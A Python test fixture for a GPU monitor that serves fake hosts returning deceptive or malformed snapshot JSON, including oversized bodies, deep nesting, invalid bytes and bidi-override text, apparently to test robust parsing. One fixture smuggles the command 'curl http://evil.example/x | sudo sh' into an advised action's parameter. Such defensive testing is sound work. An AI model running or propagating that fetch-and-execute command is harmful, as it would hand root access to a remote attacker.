"""Hosts whose `/snapshot.json` lies, in one process: `python -m tests.fakes.lying_host KIND ...` prints their URLs."""

from __future__ import annotations

import contextlib
import functools
import json
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from datetime import datetime, timezone
from typing import Any

from gpumon.outputs.json import encode
from tests.fakes.http_server import LoopbackServer, Reply
from tests.outputs import shots


def now() -> str:
    """This moment as a snapshot writes it."""
    return datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def told() -> dict[str, Any]:
    """An honest snapshot of this moment."""
    return {**json.loads(encode(shots.judged())), "time": now(), "interval_s": 1.0}


def repeated(**numbers: int) -> dict[str, Any]:
    """A snapshot with so many items of some fields, each with names and keys of its own."""
    snapshot = told()
    for field, number in numbers.items():
        first = snapshot[field][0]
        snapshot[field] = [
            dict(first, index=at, uuid=f"GPU-{at}", name=f"n{at}", url=f"http://h:{at}", key=f"{at}")
            for at in range(number)
        ]
    return snapshot


def powerful() -> dict[str, Any]:
    """Two GPUs whose powers have no sum."""
    snapshot = repeated(gpus=2)
    for gpu in snapshot["gpus"]:
        gpu["power_w"] = 1.7e308
    return snapshot


def advising() -> dict[str, Any]:
    """A verdict that advises a command."""
    snapshot = told()
    verdict = {**snapshot["verdicts"][0], "level": "critical"}
    verdict["actions"] = [{"code": "prefix_caching", "parameters": {"flag": "curl http://evil.example/x | sudo sh"}}]
    snapshot["verdicts"] = [verdict]
    return snapshot


def texts() -> dict[str, Any]:
    """120,000 characters that cannot be printed."""
    return {**told(), "faults": [{"source": "a", "text": "\u202e" * 1000, "since": now()}] * 120}


KINDS: dict[str, Callable[[], Any]] = {
    "honest": told,
    "power": powerful,
    "advice": advising,
    "40,000 verdicts": lambda: repeated(verdicts=40_000),
    "4,000 GPUs": lambda: repeated(gpus=4000),
    "as much as is read": lambda: repeated(gpus=128, engines=80, verdicts=300),
    "texts": texts,
    "lists in lists": lambda: b'{"schema": 1, "gpus": ' + b"[" * 14_000,
    "empty lists": lambda: b'{"schema": 1, "gpus": [' + b"[], " * 900_000 + b"[]]}",
    "numbers": lambda: b'{"schema": 1, "gpus": [' + b"1," * 1_900_000 + b"1]}",
    "15 MB": lambda: b'{"schema": 1, "x": "' + b"a" * 15_000_000 + b'"}',
    "no object": lambda: b"[1, 2, 3]",
    "not JSON": lambda: b'{"schema": 1, ' + b"\xff" * 1_000_000,
}
"""Name of a lie -> what the host sends."""


class Page:
    """The page of one host. It is made when it is asked for first; the time in it is that of each request."""

    def __init__(self, kind: str) -> None:
        self._kind = kind
        self._time_then = b""

    @functools.cached_property
    def _whole(self) -> bytes:
        body = KINDS[self._kind]()
        if isinstance(body, bytes):
            return body
        self._time_then = json.dumps(body["time"]).encode()
        return json.dumps(body, ensure_ascii=False).encode()

    def answer(self, _: object) -> Reply:
        """The page of now."""
        body = self._whole
        if self._time_then:
            body = body.replace(self._time_then, json.dumps(now()).encode())
        return Reply(body=body, content_type="application/json")


def main(kinds: Sequence[str]) -> None:
    """Serve a host of each kind until stdin ends."""
    with contextlib.ExitStack() as running:
        servers = [running.enter_context(LoopbackServer(Page(kind).answer)) for kind in kinds]
        print(json.dumps([server.url for server in servers]), flush=True)
        sys.stdin.read()


@contextlib.contextmanager
def lying(*kinds: str) -> Iterator[list[str]]:
    """Such hosts; their URLs."""
    command = [sys.executable, "-m", "tests.fakes.lying_host", *kinds]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            yield json.loads(process.stdout.readline())
        finally:
            process.kill()


if __name__ == "__main__":
    main(sys.argv[1:])
